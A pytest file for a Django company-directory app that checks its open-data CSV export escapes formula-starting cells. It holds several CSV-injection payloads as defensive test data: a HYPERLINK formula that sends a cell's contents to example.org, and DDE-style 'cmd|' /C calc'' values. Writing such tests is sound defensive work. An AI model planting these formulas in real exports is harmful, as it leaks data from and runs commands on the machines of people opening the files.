"""The open-data CSV opens safely in the office's spreadsheet: no cell can start a formula."""
import csv
import io

import pytest

from directory.exports import companies_csv
from directory.models import Company
from municipalities.models import Locality
from tests.factories.directory import ORG_NUMBERS, make_company

pytestmark = pytest.mark.django_db
ASELE = "asele.localhost"
# OWASP, CSV Injection: a cell starting with = + - @ (or tab, carriage return) is read as a formula.
PAYLOADS = {
    "legal_name": "=HYPERLINK(\"https://example.org/?\"&A1,\"Klicka\")",
    "trading_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "street_address": "-2+3+cmd|' /C calc'!A0",
    "postal_town": "\t=1+1",
    "phone": "+46 70 174 06 50",
    "website": "",
}


@pytest.fixture
def hostile(asele):
    place = Locality.objects.create(municipality=asele, name="=1+2", latitude=64.1, longitude=17.3)
    make_company(asele, published=True, org_number=ORG_NUMBERS[1], legal_name="Vanliga Bygg AB")
    return make_company(asele, published=True, org_number=ORG_NUMBERS[0], localities=[place],
                        **{k: v for k, v in PAYLOADS.items() if k != "postal_town"})


class CsvInjectionTests:
    def test_no_cell_of_the_export_starts_a_formula(self, client, hostile):
        # The postal town is set directly: the profile form trims the leading tab.
        Company.objects.filter(pk=hostile.pk).update(postal_town=PAYLOADS["postal_town"])
        text = client.get("/foretag/export.csv", HTTP_HOST=ASELE).content.decode()
        rows = list(csv.DictReader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        row = next(r for r in rows if r["org_number"] == ORG_NUMBERS[0])
        assert row["name"] == "'" + PAYLOADS["trading_name"]
        assert row["legal_name"] == "'" + PAYLOADS["legal_name"]
        assert row["postal_town"] == "'" + PAYLOADS["postal_town"]
        assert row["localities"] == "'=1+2"

    def test_ordinary_values_are_written_unchanged(self, asele, hostile):
        ordinary = Company.objects.get(legal_name="Vanliga Bygg AB")
        row = next(csv.DictReader(io.StringIO(companies_csv([ordinary], base_url="http://asele.localhost"))))
        assert (row["name"], row["org_number"], row["phone"]) == ("Vanliga Bygg AB", ORG_NUMBERS[1], "070-174 06 50")
